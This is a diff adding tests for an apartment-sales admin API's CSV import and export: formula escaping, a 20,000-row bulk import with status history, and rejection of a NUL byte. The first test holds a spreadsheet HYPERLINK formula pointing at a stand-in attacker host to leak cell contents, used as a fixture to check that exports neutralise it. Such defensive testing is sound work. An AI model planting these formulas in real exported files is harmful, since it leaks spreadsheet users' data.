@@ -406,6 +406,75 @@ describe('import and export', () => {
     ]);
   });
 
+  it('exports cells a spreadsheet would run as text, and imports them back unchanged', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&A2,"Öppna")';
+    await addApartment(saleProject, { bostad: formula, floor: '-1', description: '@SUM(1+1)' });
+    const res = await t.as(admin.token, {
+      method: 'GET',
+      url: `/api/v1/admin/apartments/${saleProject}/export?lang=en`,
+    });
+    const [, row] = res.rawPayload.subarray(2).toString('utf16le').split('\r\n');
+    const cells = row!.split('\t');
+    expect(cells[0]).toBe(`"'${formula.replace(/"/g, '""')}"`);
+    expect(cells[2]).toBe('-1');
+    expect(cells[11]).toBe("'@SUM(1+1)");
+
+    const preview = await t.as(admin.token, {
+      method: 'POST',
+      url: `/api/v1/admin/apartments/${saleProject}/import`,
+      payload: { csv_base64: res.rawPayload.toString('base64') },
+    });
+    expect(preview.json().summary).toEqual({ new: 0, changed: 0, unchanged: 1, invalid: 0 });
+  });
+
+  it('imports 20,000 new rows in one go, and 20,000 changes to them', async () => {
+    const file = (price: number) =>
+      ['Bostad;Rum;Våning;Boarea;Pris;Avgift;Status;Beskrivning']
+        .concat(
+          Array.from(
+            { length: 20_000 },
+            (_, i) =>
+              `L${i};${(i % 5) + 1};${i % 12};${30 + (i % 90)},5;${price + i};${2000 + (i % 3000)};Till salu;Rad ${i}`,
+          ),
+        )
+        .join('\n');
+    const created = await t.as(admin.token, {
+      method: 'POST',
+      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
+      payload: { csv: file(1_000_000) },
+    });
+    expect(created.statusCode).toBe(200);
+    expect(created.json().summary).toEqual({ new: 20_000, changed: 0, unchanged: 0, invalid: 0 });
+    const changed = await t.as(admin.token, {
+      method: 'POST',
+      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
+      payload: { csv: file(2_000_000).replace(/Till salu/g, 'Såld') },
+    });
+    expect(changed.statusCode).toBe(200);
+    expect(changed.json().summary).toEqual({ new: 0, changed: 20_000, unchanged: 0, invalid: 0 });
+    const all = await list(saleProject);
+    expect(all).toHaveLength(20_000);
+    const last = all.find((a) => a.bostad === 'L19999')!;
+    expect([last.price, last.status]).toEqual([2_019_999, 'sold']);
+    const hist = await t.as(admin.token, {
+      method: 'GET',
+      url: `/api/v1/admin/apartment/${last.id}/history`,
+    });
+    expect(hist.json().history.map((h: { to_status: string }) => h.to_status)).toEqual(['sold', 'sale']);
+  });
+
+  it('refuses a file with a character that cannot be stored, writing nothing', async () => {
+    const csv = Buffer.from('Bostad;Beskrivning\n1;ok\n2;bad\u0000byte\n', 'utf8');
+    const res = await t.as(admin.token, {
+      method: 'POST',
+      url: `/api/v1/admin/apartments/${saleProject}/import?apply=1`,
+      payload: { csv_base64: csv.toString('base64') },
+    });
+    expect(res.statusCode).toBe(422);
+    expect(Object.keys(res.json().errors)).toEqual(['csv']);
+    expect(await list(saleProject)).toHaveLength(0);
+  });
+
   it('lets only admins import', async () => {
     const res = await t.as(client.token, {
       method: 'POST',
